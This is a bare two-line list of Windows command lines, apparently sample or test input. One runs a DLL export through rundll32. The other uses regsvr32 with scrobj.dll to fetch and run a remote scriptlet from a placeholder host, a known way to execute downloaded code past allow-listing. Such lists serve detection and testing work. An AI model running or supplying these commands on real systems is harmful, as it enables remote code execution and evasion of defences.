rundll32.exe C:\x.dll,Run
regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll